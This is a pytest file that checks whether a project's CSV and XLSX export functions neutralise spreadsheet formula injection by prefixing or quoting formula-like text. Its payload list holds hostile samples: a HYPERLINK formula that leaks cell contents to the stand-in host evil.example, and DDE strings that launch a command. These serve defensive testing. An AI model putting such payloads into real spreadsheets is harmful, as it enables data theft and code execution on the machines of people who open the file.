"""The shared CSV/XLSX writers keep user text as text (formula injection, issue 12 finding 1)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from kim.core.exports import csv_bytes, csv_cell, is_formula_like, xlsx_bytes

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2&B2,"Details ansehen")'
PAYLOADS = [
    HYPERLINK,
    "=1+2",
    "+49 271 1234 (Telefon)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_formula_like_text_is_recognised(text: str) -> None:
    assert is_formula_like(text)


@pytest.mark.parametrize("text", ["-12,50", "+3", "-0.5", "Stadt Siegen", "", "3 = drei"])
def test_plain_numbers_and_ordinary_text_stay_as_they_are(text: str) -> None:
    assert not is_formula_like(text)
    assert csv_cell(text) == text


@pytest.mark.parametrize("text", ["-Infinity", "+NaN", "-inf"])
def test_special_number_words_are_not_numbers(text: str) -> None:
    assert is_formula_like(text)


def test_csv_prefixes_formula_like_text_with_an_apostrophe() -> None:
    content = csv_bytes(["Text", "Betrag"], [[p, Decimal("-1.50")] for p in PAYLOADS])
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert [row[0] for row in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert {row[1] for row in rows[1:]} == {"-1,50"}


def test_xlsx_stores_formula_like_text_as_text_cells() -> None:
    rows = [[p, Decimal("2.5"), dt.date(2026, 1, 2), 7] for p in PAYLOADS]
    content = xlsx_bytes("Test", ["=Kopf", "Betrag", "Datum", "Anzahl"], rows)
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert sheet["A1"].value == "=Kopf" and sheet["A1"].quotePrefix
    assert [sheet.cell(row=i + 2, column=1).value for i in range(len(PAYLOADS))] == PAYLOADS
    assert all(sheet.cell(row=i + 2, column=1).quotePrefix for i in range(len(PAYLOADS)))
    # Numbers and dates keep their types.
    assert sheet["B2"].value == 2.5 and sheet["D2"].value == 7
    assert sheet["C2"].value == dt.datetime(2026, 1, 2)


def test_xlsx_raw_sheet_contains_no_formula_element() -> None:
    """Belt and braces: the sheet XML itself holds no <f> element."""
    import zipfile

    content = xlsx_bytes("Test", ["Text"], [[HYPERLINK]])
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_xlsx_grows_linearly_with_the_rows() -> None:
    """Each row used to be looked up by scanning the whole sheet (``sheet[sheet.max_row]``):
    10,000 rows took 39 s instead of 1.7 s. 6,000 rows now take about 1 s of CPU time (the
    process's, so other load on the machine does not count; D-055)."""
    import time

    rows = [[f"P-{i}", dt.date(2024, 1, 1), "=1+2", Decimal("1.5"), i] for i in range(6000)]
    began = time.process_time()
    sheet = load_workbook(io.BytesIO(xlsx_bytes("Stellen", list("ABCDE"), rows))).active
    assert time.process_time() - began < 6
    assert sheet is not None and sheet.max_row == 6001
    assert sheet["C6001"].data_type == "s" and sheet["C6001"].quotePrefix
